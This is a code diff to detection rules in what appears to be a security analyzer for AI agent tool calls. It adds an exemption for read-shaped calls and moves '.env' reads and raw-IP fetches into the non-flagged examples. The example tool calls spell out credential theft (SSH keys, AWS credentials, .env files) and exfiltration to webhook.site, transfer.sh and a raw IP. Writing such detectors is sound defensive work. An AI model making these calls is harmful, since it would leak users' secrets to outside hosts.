@@ -1,6 +1,7 @@
 import { ruleAnalyzer, perCall, type AnalysisInput, type Rule } from '../rule.js';
 import type { CommandView, SimpleCommand } from '../shell/types.js';
 import { clientQueries, isSqlClient } from '../knowledge/sql-clients.js';
+import { readByShape } from '../tool-shape.js';
 import { canonicalPath } from '../knowledge/paths.js';
 import { destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 
@@ -338,21 +339,21 @@ export const RULES: readonly Rule[] = [
     id: 'PX-CALL-016', name: 'tool-params-name-secret-file', score: 65, tactic: 'credential_access', technique: 'T1552.001',
     message: 'A tool call passes the path of a key or credential file as a parameter', why: 'Handing an SSH key, cloud credential or .env path to an arbitrary tool lets that tool read or ship it.',
     check: (i) => {
-      if (i.call.kind !== 'unknown') return undefined;
+      if (i.call.kind !== 'unknown' || readByShape(i.call)) return undefined;
       const f = i.facts.files.find((x) => x.sensitive?.role === 'secret');
       return f ? `${i.call.toolName}: ${f.path}` : undefined;
     },
-    examples: { fire: [{ Unknown: { tool_name: 'upload_attachment', params: { file: '/home/u/.ssh/id_rsa' } } }, { Unknown: { tool_name: 'summarize', params: { path: '~/.aws/credentials' } } }, { Unknown: { tool_name: 'mcp__files__read', params: { path: '/srv/app/.env' } } }], quiet: [{ Unknown: { tool_name: 'summarize', params: { path: 'README.md' } } }, { Unknown: { tool_name: 'search', params: { query: 'how to rotate ssh keys' } } }, { Unknown: { tool_name: 'open', params: { path: '~/.ssh/id_ed25519.pub' } } }] },
+    examples: { fire: [{ Unknown: { tool_name: 'upload_attachment', params: { file: '/home/u/.ssh/id_rsa' } } }, { Unknown: { tool_name: 'summarize', params: { document: '~/.aws/credentials' } } }, { Unknown: { tool_name: 'mcp__files__read', params: { file: '/srv/app/.env' } } }], quiet: [{ Unknown: { tool_name: 'mcp__files__read', params: { path: '/srv/app/.env' } } }, { Unknown: { tool_name: 'summarize', params: { path: 'README.md' } } }, { Unknown: { tool_name: 'search', params: { query: 'how to rotate ssh keys' } } }, { Unknown: { tool_name: 'open', params: { path: '~/.ssh/id_ed25519.pub' } } }] },
   },
   {
     id: 'PX-CALL-017', name: 'tool-params-target-exfil-host', score: 65, tactic: 'exfiltration', technique: 'T1567',
     message: 'A tool call is pointed at a paste site, webhook catcher, tunnel or raw IP', why: 'Tools that post, upload or fetch to throwaway endpoints are a ready exfiltration channel.',
     check: (i) => {
-      if (i.call.kind !== 'unknown') return undefined;
+      if (i.call.kind !== 'unknown' || readByShape(i.call)) return undefined;
       const d = i.facts.destinations.find((x) => EXFIL_KINDS.has(x.kind));
       return d ? `${i.call.toolName}: ${d.url ?? d.host} (${d.kind})` : undefined;
     },
-    examples: { fire: [{ Unknown: { tool_name: 'http_post', params: { url: 'https://webhook.site/abc', data: 'x' } } }, { Unknown: { tool_name: 'upload', params: { endpoint: 'https://transfer.sh/f' } } }, { Unknown: { tool_name: 'fetch', params: { url: 'http://45.33.12.7/x' } } }], quiet: [{ Unknown: { tool_name: 'fetch', params: { url: 'https://docs.python.org/3/' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'http://localhost:3000/health' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'https://registry.npmjs.org/zod' } } }] },
+    examples: { fire: [{ Unknown: { tool_name: 'http_post', params: { endpoint: 'https://webhook.site/abc', data: 'x' } } }, { Unknown: { tool_name: 'upload', params: { endpoint: 'https://transfer.sh/f' } } }, { Unknown: { tool_name: 'fetch', params: { target_url: 'http://45.33.12.7/x' } } }], quiet: [{ Unknown: { tool_name: 'fetch', params: { url: 'http://45.33.12.7/x' } } }, { Unknown: { tool_name: 'fetch', params: { url: 'https://docs.python.org/3/' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'http://localhost:3000/health' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'https://registry.npmjs.org/zod' } } }] },
   },
 ];
 
